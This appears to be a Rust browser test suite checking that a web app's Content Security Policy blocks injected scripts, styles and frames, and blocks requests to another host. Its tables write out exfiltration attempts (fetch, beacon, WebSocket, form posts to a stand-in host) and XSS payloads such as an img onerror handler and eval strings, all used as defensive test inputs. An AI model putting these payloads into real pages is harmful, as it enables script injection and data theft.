//! Nothing leaves the device, and nothing runs that is not the app’s own: whether the host sends the
//! policy or the page alone has it.

use super::{
    browser::{Screen, setting},
    site::{POLICY, Site},
    story::{Story, journey, journey_from},
};
use serde_json::json;
use std::collections::BTreeSet;

/// What a page can try to get something out, or something in, from a timer, since what a debugger runs
/// itself may do more than a page; and which rule has to stop it.
const TRIED: [(&str, &str, &str); 18] = [
    ("a request", "await fetch(`${elsewhere}/fetch`)", "connect-src"),
    (
        "an older kind of request",
        "const it = new XMLHttpRequest(); it.open('POST', `${elsewhere}/request`); it.send('x')",
        "connect-src",
    ),
    ("a socket", "new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`)", "connect-src"),
    ("a stream", "new EventSource(`${elsewhere}/stream`)", "connect-src"),
    ("a beacon", "navigator.sendBeacon(`${elsewhere}/beacon`, 'x')", "connect-src"),
    ("a picture", "new Image().src = `${elsewhere}/picture.png?x`", "img-src"),
    ("a script from elsewhere", "await import(`${elsewhere}/module.js`)", "script-src-elem"),
    (
        "a stylesheet",
        "add('link', { rel: 'stylesheet', href: `${elsewhere}/style.css` })",
        "style-src-elem",
    ),
    (
        "a style of its own",
        "add('style', { textContent: ':root { --planted: yes }' })",
        "style-src-elem",
    ),
    ("a frame", "add('iframe', { src: `${elsewhere}/frame.html` })", "frame-src"),
    (
        "a form",
        "add('form', { action: `${elsewhere}/form`, method: 'post' }).submit()",
        "form-action",
    ),
    ("another base", "add('base', { href: `${elsewhere}/` })", "base-uri"),
    ("text that is run", "(0, eval)('window.planted = true')", TRUSTED),
    ("text made a function", "new Function('window.planted = true')()", TRUSTED),
    ("text run later", "setTimeout('window.planted = true', 0)", TRUSTED),
    ("a script of its own", "add('script', { text: 'window.planted = true' })", TRUSTED),
    (
        "markup",
        "add('div', {}).innerHTML = '<img src=\"data:,\" onerror=\"window.planted = true\">'",
        TRUSTED,
    ),
    ("a worker", "new Worker(`${elsewhere}/worker.js`)", TRUSTED),
];

const TRUSTED: &str = "require-trusted-types-for";

/// What got into the page on its way, `ELSEWHERE` being another host; none of it runs or loads.
const PLANTED: &str = r#"
    <script>window.planted = true;</script>
    <img src="data:," onerror="window.planted = true">
    <style>:root { --planted: yes }</style>
    <p style="--planted: yes"></p>
    <script src="ELSEWHERE/planted.js"></script>
    <img src="ELSEWHERE/planted.png">
    <iframe src="ELSEWHERE/planted.html"></iframe>
    <base href="ELSEWHERE/">
"#;

/// What has to stop the planted: the rule, and what it says that it stopped.
const PLANTED_IS_STOPPED: [(&str, &str); 8] = [
    ("script-src-elem", "inline"),
    ("script-src-attr", "inline"),
    ("style-src-elem", "inline"),
    ("style-src-attr", "inline"),
    ("script-src-elem", "ELSEWHERE/planted.js"),
    ("img-src", "ELSEWHERE/planted.png"),
    ("frame-src", "ELSEWHERE"),
    ("base-uri", "ELSEWHERE/"),
];

/// Whatever a policy stopped: the rule, what, and the whole of that policy.
type Stopped = (String, String, String);

const NOTE_WHAT_IS_STOPPED: &str = "window.stopped = []; \
    window.addEventListener('securitypolicyviolation', (event) => window.stopped.push( \
    [event.effectiveDirective, event.blockedURI, event.originalPolicy]))";

/// A host that somebody might want to send something to; it counts who asks it for anything.
fn elsewhere() -> Site {
    Site::of(&setting("UNDERSTUDY_DIST"))
}

#[tokio::test]
async fn nothing_leaves_the_device() {
    journey("nothing_leaves", Screen::Desk, async |story: &Story| {
        let elsewhere = elsewhere();
        open_and_listen(story, &elsewhere).await;
        // The page itself carries the policy, for hosts that send no headers: every rule of it that a
        // page can say of itself, and not a word more.
        let rules = |policy: &str| -> BTreeSet<String> {
            let rules = policy.split(';').map(|rule| rule.trim().to_owned());
            rules.filter(|rule| !rule.starts_with("frame-ancestors")).collect()
        };
        assert_eq!(rules(&policy_of_the_page(story).await), rules(POLICY));
        let inline: Vec<String> = story
            .run(
                "return [...document.querySelectorAll('script:not([src]), style, [style]')] \
                 .map((it) => it.outerHTML.slice(0, 200))",
                json!([]),
            )
            .await;
        assert!(inline.is_empty(), "inline parts: {inline:?}");
        assert!(sent_policy(story).await.is_some(), "the host sends no policy");
        everything_is_stopped(story, &elsewhere).await;
        let outside: Vec<String> = story
            .site
            .asked()
            .into_iter()
            .filter(|path| !path.starts_with("/some/path/"))
            .collect();
        assert!(outside.is_empty(), "the app asked for what is not its own: {outside:?}");
    })
    .await;
}

/// A host of plain files sends no headers, and on the way from it something may get into the page. The
/// page’s own policy stops all that by itself.
#[tokio::test]
async fn the_page_alone_stops_whatever_got_into_it() {
    let elsewhere = elsewhere();
    let planted = PLANTED.replace("ELSEWHERE", &elsewhere.origin());
    let site = Site::without_policy(&setting("UNDERSTUDY_DIST"), planted);
    journey_from(site, "page_alone", Screen::Desk, async |story: &Story| {
        open_and_listen(story, &elsewhere).await;
        assert_eq!(sent_policy(story).await, None, "it is the host’s policy after all");
        let own = policy_of_the_page(story).await;
        let mut stopped = stopped(story).await;
        for (rule, what) in PLANTED_IS_STOPPED {
            let what = what.replace("ELSEWHERE", &elsewhere.origin());
            let is_it = |(by, it, _): &Stopped| (by.as_str(), it) == (rule, &what);
            assert!(stopped.iter().any(is_it), "{rule} does not stop {what}: {stopped:?}");
        }
        stopped.extend(everything_is_stopped(story, &elsewhere).await);
        let others: Vec<&Stopped> = stopped.iter().filter(|(.., policy)| *policy != own).collect();
        assert!(others.is_empty(), "stopped by another policy: {others:?}");
        // And the app works in it.
        story.press("Set up my office").await;
        story.heading("Set up your office").await;
    })
    .await;
}

async fn open_and_listen(story: &Story, elsewhere: &Site) {
    let listen = json!({ "source": NOTE_WHAT_IS_STOPPED });
    story.browser.cdp("Page.addScriptToEvaluateOnNewDocument", listen).await;
    story.expect_error("Content Security Policy");
    story.expect_error("This document requires");
    story.expect_error("boot.js does not let this markup through");
    story.expect_in_vain(&elsewhere.origin());
    story.open().await;
}

async fn policy_of_the_page(story: &Story) -> String {
    let policy =
        "return document.querySelector('meta[http-equiv=Content-Security-Policy]')?.content ?? ''";
    story.run(policy, json!([])).await
}

/// The policy that the host sends with the page.
async fn sent_policy(story: &Story) -> Option<String> {
    let ask = "const done = arguments[0]; \
        fetch(location.href).then((it) => done(it.headers.get('content-security-policy')))";
    story.later(ask).await
}

async fn stopped(story: &Story) -> Vec<Stopped> {
    story.run("return window.stopped", json!([])).await
}

/// Whatever should try to get out is stopped before it asks anyone, each by its rule, and nothing of
/// what was planted was run. Gives what was stopped.
async fn everything_is_stopped(story: &Story, elsewhere: &Site) -> Vec<Stopped> {
    let mut all = Vec::new();
    for (what, attempt, rule) in TRIED {
        let attempt = format!(
            "const done = arguments[0], elsewhere = '{}'; \
             const add = (name, fields) => document.body.appendChild( \
               Object.assign(document.createElement(name), fields)); \
             window.stopped = []; \
             setTimeout(async () => {{ try {{ {attempt}; }} catch {{ }} done(true); }}, 0)",
            elsewhere.origin()
        );
        let _: bool = story.later(&attempt).await;
        let is_stopped = "return window.stopped.some(([rule]) => rule === arguments[0])";
        story.until(is_stopped, json!([rule]), &format!("{rule} to stop {what}")).await;
        all.extend(stopped(story).await);
    }
    let ran = "return [window.planted ?? null, ...[...document.querySelectorAll('html, p')] \
        .map((it) => getComputedStyle(it).getPropertyValue('--planted') || null)] \
        .filter((it) => it !== null)";
    let ran: Vec<serde_json::Value> = story.run(ran, json!([])).await;
    assert!(ran.is_empty(), "something ran that is not the app’s own: {ran:?}");
    let base: String = story.run("return document.baseURI", json!([])).await;
    assert!(base.starts_with(&story.site.address()), "the page has another base: {base}");
    let asked = elsewhere.asked();
    assert!(asked.is_empty(), "something got out: {asked:?}");
    all
}
